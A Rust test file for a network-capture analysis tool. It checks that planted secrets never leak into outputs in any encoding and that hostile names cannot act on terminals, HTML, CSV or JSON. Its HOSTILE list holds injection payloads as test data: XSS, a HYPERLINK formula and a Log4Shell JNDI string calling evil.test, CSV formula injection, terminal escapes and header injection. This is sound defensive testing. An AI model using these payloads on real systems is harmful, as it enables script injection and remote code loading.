//! What a device gives away, or names itself, through the binary: no planted value is in anything that is written or printed, in none of its
//! forms, and no name acts on a terminal, page, cell or parser.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::print_stdout, clippy::disallowed_methods, reason = "tests")]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use std::process::Stdio;
use std::time::{Duration, Instant};

use policies::{IdentifierType, Persona};
use support::{no_namespaces, overhear};

mod support;

/// Random bytes of a fixed seed (Knuth's MMIX generator): values that are rare, and the same in every run.
fn random(seed: u64) -> impl FnMut(&mut [u8]) {
    let mut state = seed;
    move |bytes| {
        for byte in bytes {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            *byte = (state >> 56) as u8;
        }
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn base64(bytes: &[u8], url: bool) -> String {
    let alphabet: Vec<char> = ('A'..='Z').chain('a'..='z').chain('0'..='9').chain(if url { ['-', '_'] } else { ['+', '/'] }).collect();
    bytes
        .chunks(3)
        .map(|three| {
            let word = three.iter().chain([0; 2].iter()).take(3).fold(0_usize, |w, b| w << 8 | usize::from(*b));
            let text: String = (0..=three.len()).map(|i| alphabet[word >> (18 - 6 * i) & 63]).collect();
            text + &"="[..usize::from(!url && three.len() < 3)].repeat(3 - three.len())
        })
        .collect()
}

fn percent(text: &str, all: bool) -> String {
    text.bytes().map(|b| if b.is_ascii_alphanumeric() && !all { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}

/// The writings and codings in which a value is sent here, and sought afterwards. Forms shorter than this prove nothing when found.
const SHORTEST: usize = 6;

/// A secret in other letters is another secret.
fn is_exact(kind: IdentifierType) -> bool {
    matches!(kind, IdentifierType::Password | IdentifierType::Token)
}

fn codings(value: &str, exact: bool) -> Vec<String> {
    let mut written = vec![value.to_owned(), value.to_lowercase(), value.to_uppercase()];
    // Numbers are numbers with and without separators; words and places are not.
    if value.chars().all(|c| c.is_ascii_hexdigit() || " -.:+".contains(c)) {
        written.push(value.replace([' ', '-', '.', ':'], ""));
    }
    written.extend(value.strip_prefix('+').map(str::to_owned));
    if exact {
        written.truncate(1);
    }
    written.sort();
    written.dedup();
    let mut out = Vec::new();
    for text in written {
        out.extend([
            percent(&text, false),
            percent(&text, true),
            base64(text.as_bytes(), false),
            base64(text.as_bytes(), true),
            base64(text.as_bytes(), false).trim_end_matches('=').to_owned(),
            hex(text.as_bytes()),
            hex(text.as_bytes()).to_uppercase(),
            hex(text.as_bytes()).as_bytes().chunks(2).map(|c| std::str::from_utf8(c).unwrap()).collect::<Vec<_>>().join(":"),
            base64(base64(text.as_bytes(), false).as_bytes(), false),
            text.chars().fold(String::new(), |mut s, c| {
                write!(s, "\\u{:04x}", c as u32).unwrap();
                s
            }),
            text.replace(' ', "+"),
            text,
        ]);
    }
    out.sort();
    out.dedup();
    out.retain(|f| f.len() >= SHORTEST);
    out
}

/// A capture in memory.
struct Capture {
    bytes: Vec<u8>,
    time: u32,
    port: u16,
    /// The device's link address.
    mac: [u8; 6],
}

impl Capture {
    fn new() -> Capture {
        let mut bytes = 0xa1b2_c3d4_u32.to_le_bytes().to_vec();
        bytes.extend_from_slice(&[2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 0, 0, 0]);
        Capture { bytes, time: 1_700_000_000, port: 20_000, mac: [2, 0, 0, 0, 0, 2] }
    }

    fn packet(&mut self, out: bool, proto: u8, peer: [u8; 4], segment: &[u8]) {
        self.time += 1;
        let total = (20 + segment.len()) as u16;
        let router = [2, 0, 0, 0, 0, 1];
        let mut frame = if out { [router, self.mac] } else { [self.mac, router] }.concat();
        frame.extend_from_slice(&[8, 0, 0x45, 0]);
        frame.extend_from_slice(&total.to_be_bytes());
        frame.extend_from_slice(&[0, 0, 0x40, 0, 64, proto, 0, 0]);
        let me = [192, 168, 7, 2];
        frame.extend_from_slice(&if out { [me, peer] } else { [peer, me] }.concat());
        frame.extend_from_slice(segment);
        for word in [self.time, 0, frame.len() as u32, frame.len() as u32] {
            self.bytes.extend_from_slice(&word.to_le_bytes());
        }
        self.bytes.extend_from_slice(&frame);
    }

    fn datagram(&mut self, peer: [u8; 4], port: u16, payload: &[u8]) {
        self.port += 1;
        let mut segment = [self.port.to_be_bytes(), port.to_be_bytes(), ((8 + payload.len()) as u16).to_be_bytes(), [0; 2]].concat();
        segment.extend_from_slice(payload);
        self.packet(true, 17, peer, &segment);
    }

    fn tcp(&mut self, out: bool, port: u16, seq: u32, ack: u32, flags: u8, payload: &[u8]) {
        let ports = if out { [self.port, port] } else { [port, self.port] };
        let mut segment: Vec<u8> = ports.iter().flat_map(|p| p.to_be_bytes()).collect();
        segment.extend_from_slice(&seq.to_be_bytes());
        segment.extend_from_slice(&ack.to_be_bytes());
        segment.extend_from_slice(&[0x50, flags, 255, 255, 0, 0, 0, 0]);
        segment.extend_from_slice(payload);
        self.packet(out, 6, [203, 0, 113, 9], &segment);
    }

    /// A connection with what either side says, the client first.
    fn connection(&mut self, port: u16, said: &[u8], answer: &[u8]) {
        self.port += 1;
        self.tcp(true, port, 0, 0, 2, b"");
        self.tcp(false, port, 0, 1, 18, b"");
        let mut at = 1;
        for piece in said.chunks(1400) {
            self.tcp(true, port, at, 1, 24, piece);
            at += piece.len() as u32;
        }
        self.tcp(false, port, 1, at, 24, answer);
        let end = 1 + answer.len() as u32;
        self.tcp(true, port, at, end, 17, b"");
        self.tcp(false, port, end, at + 1, 17, b"");
    }
}

/// A name of DNS, each label as it is.
fn labels(name: &[&[u8]]) -> Vec<u8> {
    let mut out: Vec<u8> = name.iter().flat_map(|l| [&[l.len().min(63) as u8][..], &l[..l.len().min(63)]].concat()).collect();
    out.push(0);
    out
}

fn question(name: &[&[u8]]) -> Vec<u8> {
    [&[0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], &labels(name), &[0, 1, 0, 1]].concat()
}

/// An mDNS answer: a pointer from a service to an instance of this name.
fn announcement(instance: &[u8]) -> Vec<u8> {
    let target = labels(&[instance, b"_http", b"_tcp", b"local"]);
    let mut out =
        [&[0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 0][..], &labels(&[b"_http", b"_tcp", b"local"]), &[0, 12, 0, 1, 0, 0, 0, 9]].concat();
    out.extend_from_slice(&(target.len() as u16).to_be_bytes());
    out.extend_from_slice(&target);
    out
}

fn lease(name: &[u8]) -> Vec<u8> {
    let mut out = vec![1, 1, 6, 0, 1, 2, 3, 4];
    out.resize(28, 0);
    out.extend_from_slice(&[2, 0, 0, 0, 0, 2]);
    out.resize(236, 0);
    out.extend_from_slice(&[0x63, 0x82, 0x53, 0x63, 53, 1, 1, 12, name.len().min(255) as u8]);
    out.extend_from_slice(&name[..name.len().min(255)]);
    out.extend_from_slice(&[60, name.len().min(255) as u8]);
    out.extend_from_slice(&name[..name.len().min(255)]);
    out.push(255);
    out
}

/// A ClientHello that asks for this server and this protocol.
fn hello(name: &[u8]) -> Vec<u8> {
    let prefixed = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes(), bytes].concat();
    let server = prefixed(&[&[0][..], &prefixed(name)].concat());
    let protocol = prefixed(&[&[name.len().min(255) as u8][..], &name[..name.len().min(255)]].concat());
    let extensions = [&[0, 0][..], &prefixed(&server), &[0, 16], &prefixed(&protocol)].concat();
    let body = [&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0], &prefixed(&extensions)].concat();
    let message = [&[1, 0][..], &prefixed(&body)].concat();
    [&[22, 3, 1][..], &prefixed(&message)].concat()
}

/// A text in all the places a device can put one.
fn everywhere(capture: &mut Capture, text: &[u8]) {
    let line: Vec<u8> = text.iter().copied().filter(|b| !b"\r\n".contains(b)).collect();
    let word: Vec<u8> = line.iter().map(|b| if *b == b' ' { b'_' } else { *b }).collect();
    let head = |first: &[u8], rest: &[u8]| [first, b" HTTP/1.1\r\nHost: ", rest].concat();
    let answer = [b"HTTP/1.1 200 OK\r\nServer: ", &line[..], b"\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok"].concat();
    for request in [
        head(&[b"GET /a?id=", &word[..]].concat(), b"shop.test\r\n\r\n"),
        head(&[b"GET /", &word[..], b"/a"].concat(), b"shop.test\r\n\r\n"),
        head(&[b"GET /a;id=", &word[..], b"#", &word[..]].concat(), b"shop.test\r\n\r\n"),
        head(b"GET /a", &[&word[..], b".shop.test\r\n\r\n"].concat()),
        head(
            b"GET /a",
            &[b"shop.test\r\nUser-Agent: ", &line[..], b"\r\nX-", &word[..], b": 1\r\nCookie: id=", &line[..], b"\r\n\r\n"].concat(),
        ),
        head(
            b"GET /a",
            &[b"shop.test\r\nReferer: http://a.test/", &word[..], b"\r\nAuthorization: Bearer ", &word[..], b"\r\n\r\n"].concat(),
        ),
        [&word[..], b" /a HTTP/1.1\r\nHost: shop.test\r\n\r\n"].concat(),
    ] {
        capture.connection(80, &request, &answer);
    }
    for (kind, body) in [
        ("application/json", [b"{\"id\":\"", &line[..], b"\"}"].concat()),
        ("application/x-www-form-urlencoded", [b"id=", &word[..]].concat()),
        ("text/plain", text.to_vec()),
    ] {
        let post = format!("POST /p HTTP/1.1\r\nHost: shop.test\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n", body.len());
        capture.connection(80, &[post.as_bytes(), &body].concat(), &answer);
    }
    capture.connection(443, &hello(&line), b"\x15\x03\x03\x00\x02\x02\x28");
    capture.connection(4000, &[b"LOGIN ", text, b"\n"].concat(), b"OK\n");
    capture.datagram([203, 0, 113, 53], 53, &question(&[&line, b"shop", b"test"]));
    capture.datagram([203, 0, 113, 7], 4001, text);
    capture.datagram([224, 0, 0, 251], 5353, &announcement(&line));
    capture.datagram([255, 255, 255, 255], 67, &lease(&line));
    let search = [
        b"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:",
        &line[..],
        b"\r\nUSN: uuid:",
        &line[..],
        b"\r\nSERVER: ",
        &line[..],
        b"\r\n\r\n",
    ];
    capture.datagram([239, 255, 255, 250], 1900, &search.concat());
}

/// What was planted: the persona's text, its values, and all that is sought of them with the names of the values.
struct Planted {
    text: String,
    values: Vec<String>,
    sought: Vec<(String, String)>,
}

impl Planted {
    fn new() -> Planted {
        let text = policies::persona::synthetic(&mut random(1));
        let persona = Persona::parse("persona", &text).unwrap();
        // One contact stands for five.
        let some = || persona.values.iter().filter(|v| !v.name.starts_with("contact-") || v.name.starts_with("contact-1"));
        let forms = |v: &policies::PersonaValue| codings(v.value.reveal(), is_exact(v.kind));
        let sought = some().flat_map(|v| forms(v).into_iter().map(|form| (v.name.clone(), form))).collect();
        let values = some().map(|v| v.value.reveal().to_owned()).collect();
        Planted { text, values, sought }
    }

    /// Nothing of it is in any of these.
    #[track_caller]
    fn is_nowhere_in(&self, all: &BTreeMap<String, Vec<u8>>) {
        let mut found = Vec::new();
        for (name, bytes) in all {
            let lower = bytes.to_ascii_lowercase();
            for (field, form) in &self.sought {
                // Base64 is of the case it is of; what has one case is sought in any.
                let any_case = *form == form.to_lowercase() || *form == form.to_uppercase();
                let folded = || any_case && memchr::memmem::find(&lower, form.to_lowercase().as_bytes()).is_some();
                if memchr::memmem::find(bytes, form.as_bytes()).is_some() || folded() {
                    found.push(format!("{field} as {form} in {name}"));
                }
            }
        }
        assert!(found.is_empty(), "{} finds:\n{}", found.len(), found[..found.len().min(60)].join("\n"));
    }

    /// Events whose words say it.
    fn events(&self) -> String {
        let cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
        let mut rows = "time,phase,kind,confirmed,operator,note\n".to_owned();
        for (n, (_, form)) in self.sought.iter().enumerate() {
            let kind = if form.contains(char::is_whitespace) { "idle".to_owned() } else { format!("app:{form}") };
            let (hour, minute, second) = (n / 3600, n / 60 % 60, n % 60);
            let note = format!("then {form} was typed");
            writeln!(rows, "2023-11-15T{hour:02}:{minute:02}:{second:02}Z,at,{},yes,{},{}", cell(&kind), cell(form), cell(&note)).unwrap();
        }
        rows
    }
}

/// Everything the binary wrote and printed, by name; sealed values, which are what they are, and the persona are not among it.
fn outputs(capture: &Capture, planted: Option<&Planted>) -> BTreeMap<String, Vec<u8>> {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.pcap");
    fs::write(&input, &capture.bytes).unwrap();
    let (out, key) = (dir.path().join("run"), dir.path().join("key"));
    let mut common = vec!["--project-key".to_owned(), key.display().to_string()];
    let mut events = Vec::new();
    if let Some(planted) = planted {
        let path = dir.path().join("persona.toml");
        fs::write(&path, &planted.text).unwrap();
        common.extend(["--persona".to_owned(), path.display().to_string()]);
        let path = dir.path().join("events.csv");
        fs::write(&path, planted.events()).unwrap();
        events.extend(["--events".to_owned(), path.display().to_string()]);
    }
    let mut all = BTreeMap::new();
    let mut run = |name: &str, args: &[&str]| {
        let done = Command::new(env!("CARGO_BIN_EXE_overhear")).args(args).env("HOME", dir.path()).output().unwrap();
        assert!(done.status.code().is_some_and(|c| c < 3), "{name}: {}", String::from_utf8_lossy(&done.stderr));
        all.insert(format!("stdout of {name}"), done.stdout);
        all.insert(format!("stderr of {name}"), done.stderr);
    };
    let out = out.display().to_string();
    let mut analyze = vec!["analyze", "--tables", "--out", &out];
    analyze.extend(common.iter().chain(&events).map(String::as_str));
    let input = input.display().to_string();
    analyze.push(&input);
    run("analyze", &analyze);
    for value in planted.iter().flat_map(|p| &p.values) {
        let (by, note) = (format!("--by={value}"), format!("--note={value}"));
        let mut mark = vec!["mark", &out, "sham", "at", &by, &note];
        mark.extend(common.iter().map(String::as_str));
        run("mark", &mark);
    }
    run("plan", &["plan", "--from", &out]);
    for format in ["text", "json", "junit"] {
        run(&format!("report {format}"), &["report", &out, "--format", format]);
    }
    run("verify", &["verify", &out]);
    run("replay", &["replay", &out, "--headless"]);
    files(Path::new(&out), &mut all);
    all
}

fn files(dir: &Path, all: &mut BTreeMap<String, Vec<u8>>) {
    for entry in fs::read_dir(dir).unwrap() {
        let path: PathBuf = entry.unwrap().path();
        if path.is_dir() {
            if path.file_name().unwrap() != "sealed" {
                files(&path, all);
            }
        } else {
            all.insert(path.display().to_string(), fs::read(&path).unwrap());
        }
    }
}

#[test]
fn no_planted_value_is_repeated() {
    let planted = Planted::new();
    let mut capture = Capture::new();
    for (_, form) in &planted.sought {
        everywhere(&mut capture, form.as_bytes());
    }
    let all = outputs(&capture, Some(&planted));
    assert!(all.keys().any(|name| name.ends_with("report.html")) && all.keys().any(|name| name.contains("tables")), "{:?}", all.keys());
    planted.is_nowhere_in(&all);
    // What was said of the device is there, but for the values.
    let journal = all.iter().find(|(name, _)| name.ends_with("journal.jsonl")).unwrap().1;
    let events = memchr::memmem::find_iter(journal, b"{\"event\":").count();
    assert_eq!(events, planted.sought.len() + planted.values.len());
    assert!(memchr::memmem::find(journal, "then ‹".as_bytes()).is_some());
}

/// The device's own link address may be a planted value too.
#[test]
fn an_own_link_address_is_masked() {
    let text = Planted::new().text + "\n[[value]]\nname = \"wifi\"\ntype = \"mac\"\nvalue = \"a4:5e:60:c1:22:9b\"\n";
    let mut capture = Capture::new();
    capture.mac = [0xa4, 0x5e, 0x60, 0xc1, 0x22, 0x9b];
    capture.datagram([203, 0, 113, 9], 4000, b"nothing");
    let sought = vec![("wifi".to_owned(), "a4:5e:60:c1:22:9b".to_owned()), ("wifi".to_owned(), "a45e60c1229b".to_owned())];
    let planted = Planted { text, values: Vec::new(), sought };
    planted.is_nowhere_in(&outputs(&capture, Some(&planted)));
}

#[test]
fn what_would_be_kept_as_it_is_may_say_nothing_planted() {
    let planted = Planted::new();
    let dir = tempfile::tempdir().unwrap();
    let at = |name: &str| dir.path().join(name).display().to_string();
    fs::write(at("persona"), &planted.text).unwrap();
    fs::write(at("in.pcap"), &Capture::new().bytes).unwrap();
    let mut all = BTreeMap::new();
    let mut refused = |name: &str, args: &[&str]| {
        let done = overhear().args(args).args(["--persona", &at("persona"), "--project-key", &at("key")]).output().unwrap();
        assert_eq!(done.status.code(), Some(3), "{name}");
        all.insert(format!("stdout of {name}"), done.stdout);
        all.insert(format!("stderr of {name}"), done.stderr);
    };
    let out = at("run");
    for (n, value) in planted.values.iter().enumerate() {
        let value = toml::Value::String(value.clone()).to_string();
        fs::write(
            at("policy"),
            format!("schema = \"overhear/policy/1\"\n[authorisation]\nowner = {value}\nreference = \"a\"\nby = \"b\"\n"),
        )
        .unwrap();
        refused(&format!("a policy with {n}"), &["analyze", &at("in.pcap"), "--out", &out, "--policy", &at("policy")]);
        fs::write(at("declaration"), format!("schema = \"overhear/declaration/1\"\nlabel = {value}\n")).unwrap();
        refused(&format!("a declaration with {n}"), &["analyze", &at("in.pcap"), "--out", &out, "--declaration", &at("declaration")]);
    }
    assert!(!Path::new(&out).exists());
    // A run that is over knows no value: it has to be told them, or no words.
    let common = ["--persona", &at("persona"), "--project-key", &at("key")];
    assert!(overhear().args(["analyze", &at("in.pcap"), "--out", &out]).args(common).status().unwrap().code() < Some(3));
    let before = fs::read(Path::new(&out).join("journal.jsonl")).unwrap();
    let other = policies::persona::synthetic(&mut random(2));
    fs::write(at("other"), other).unwrap();
    let value = &planted.values[0];
    for (name, args) in [
        ("a note", &["--note", value][..]),
        ("a name", &["--by", value]),
        ("another persona", &["--note", value, "--persona", &at("other"), "--project-key", &at("key")]),
        ("another key", &["--note", value, "--persona", &at("persona"), "--project-key", &at("other-key")]),
    ] {
        let done = overhear().args(["mark", &out, "sham"]).args(args).env("HOME", dir.path()).output().unwrap();
        assert_eq!(done.status.code(), Some(3), "{name}");
        all.insert(format!("stderr of {name}"), done.stderr);
    }
    assert_eq!(fs::read(Path::new(&out).join("journal.jsonl")).unwrap(), before);
    assert_eq!(overhear().args(["mark", &out, "sham"]).status().unwrap().code(), Some(0), "a mark without words needs no persona");
    planted.is_nowhere_in(&all);
}

/// A lab run whose program is named by the values, sends them, and is marked with them: only packets and sealed values hold them.
#[test]
fn a_live_run_repeats_none_either() {
    if let Some(why) = no_namespaces().or_else(|| Command::new("curl").arg("-V").output().err().map(|_| "no curl here".to_owned())) {
        println!("skipped: {why}");
        return;
    }
    let planted = Planted::new();
    let dir = tempfile::tempdir().unwrap();
    let at = |name: &str| dir.path().join(name).display().to_string();
    fs::write(at("persona"), &planted.text).unwrap();
    fs::write(at("body"), planted.values.join("\n")).unwrap();
    let script = format!(
        "curl -s -m 5 --data-binary @{0} http://plain.shop.test/; curl -sk -m 5 --data-binary @{0} https://shop.test/; sleep 1; true",
        at("body")
    );
    let run = overhear()
        .args(["lab", "--headless", "--budget", "60", "--attacks", "cert.untrusted-ca,cert.expired", "--out", &at("run")])
        .args(["--persona", &at("persona"), "--project-key", &at("key"), "--", "sh", "-c", &script, "program"])
        .args(&planted.values)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let until = Instant::now() + Duration::from_secs(30);
    let journal = dir.path().join("run/journal.jsonl");
    while !fs::read(&journal).is_ok_and(|j| memchr::memmem::find(&j, b"{\"hello\":").is_some()) && Instant::now() < until {
        std::thread::sleep(Duration::from_millis(50));
    }
    for value in &planted.values {
        let done =
            overhear().args(["mark", &at("run"), "sham", "at", &format!("--by={value}"), &format!("--note={value}")]).output().unwrap();
        assert_eq!(done.status.code(), Some(0), "{}", String::from_utf8_lossy(&done.stderr));
    }
    let done = run.wait_with_output().unwrap();
    assert_eq!(done.status.code(), Some(1), "{}", String::from_utf8_lossy(&done.stderr));
    let mut all = BTreeMap::from([("stdout".to_owned(), done.stdout), ("stderr".to_owned(), done.stderr)]);
    files(&dir.path().join("run"), &mut all);
    // The packets are what they are.
    all.retain(|name, _| !ends(name, "pcapng"));
    planted.is_nowhere_in(&all);
    let journal = fs::read(&journal).unwrap();
    assert_eq!(memchr::memmem::find_iter(&journal, b"{\"event\":").count(), planted.values.len(), "every mark was taken up");
    assert!(memchr::memmem::find(&journal, b"{\"hit\":").is_some(), "the values were seen");
}

/// Names that act, if anything lets them.
const HOSTILE: &[&[u8]] = &[
    b"\x1b[2J\x1b]0;owned\x07\x9b31m",
    "a\u{202e}gpj.exe\u{2066}\u{200f}\u{feff}\u{85}\u{2028}".as_bytes(),
    b"<script>alert(1)</script><img src=x onerror=alert(1)>\"'><!--]]>&lt;",
    b"=HYPERLINK(\"http://evil.test\";\"x\")",
    b"+1+1\t@SUM(A1)",
    b"a\0b\x08\x7f\r\nSet-Cookie: x",
    b"\xff\xfe\xc3(\xed\xa0\x80",
    b"javascript:alert(1)",
    b"{{7*7}} ${jndi:ldap://evil.test/a} %n%s%x",
];

/// What a name ends in, of a file or of what was printed.
fn ends(name: &str, extension: &str) -> bool {
    Path::new(name).extension().is_some_and(|e| e == extension)
}

#[test]
fn no_name_acts() {
    let mut capture = Capture::new();
    for name in HOSTILE {
        everywhere(&mut capture, name);
    }
    everywhere(&mut capture, &b"\x1b<b>=".repeat(3000));
    let all = outputs(&capture, None);
    for (name, bytes) in &all {
        let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{name} is no text: {e}"));
        let acts = |c: char| {
            c.is_control() && c != '\n' && c != '\t' && c != '\r'
                || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{2028}' | '\u{2029}' | '\u{61c}')
        };
        assert_eq!(text.chars().find(|c| acts(*c)), None, "{name}");
        let json = ends(name, "json") || name == "stdout of report json";
        if json {
            let value: serde_json::Value = serde_json::from_str(text).unwrap_or_else(|e| panic!("{name}: {e}"));
            strings(&value, &mut |s| assert_eq!(s.chars().find(|c| acts(*c)), None, "{name}: {s:?}"));
        } else if ends(name, "jsonl") {
            for line in text.lines() {
                let value: serde_json::Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{name}: {e}: {line:.200}"));
                strings(&value, &mut |s| assert_eq!(s.chars().find(|c| acts(*c)), None, "{name}: {s:?}"));
            }
        } else if ends(name, "html") {
            for bad in ["<script>alert", "<img", "onerror=alert(1)>", "href=\"javascript:", "<b>="] {
                assert!(!text.contains(bad), "{name} holds {bad}");
            }
        } else if name == "stdout of report junit" {
            assert!(!text.contains("<script") && !text.contains("<img") && !text.contains("]]>&lt;"), "{name}");
        } else if ends(name, "csv") {
            let cells = text.lines().flat_map(|l| l.split(','));
            assert_eq!(cells.map(|c| c.trim_matches('"')).find(|c| c.starts_with(['=', '+', '@', '\t'])), None, "{name}");
        }
    }
    // They were seen, so that their absence means something.
    let journal = all.iter().find(|(name, _)| name.ends_with("journal.jsonl")).unwrap().1;
    assert!(memchr::memmem::find(journal, b"HYPERLINK").is_some() && memchr::memmem::find(journal, b"jndi").is_some());
}

fn strings(value: &serde_json::Value, each: &mut impl FnMut(&str)) {
    match value {
        serde_json::Value::String(s) => each(s),
        serde_json::Value::Array(all) => all.iter().for_each(|v| strings(v, each)),
        serde_json::Value::Object(all) => all.iter().for_each(|(k, v)| {
            each(k);
            strings(v, each);
        }),
        _ => {}
    }
}
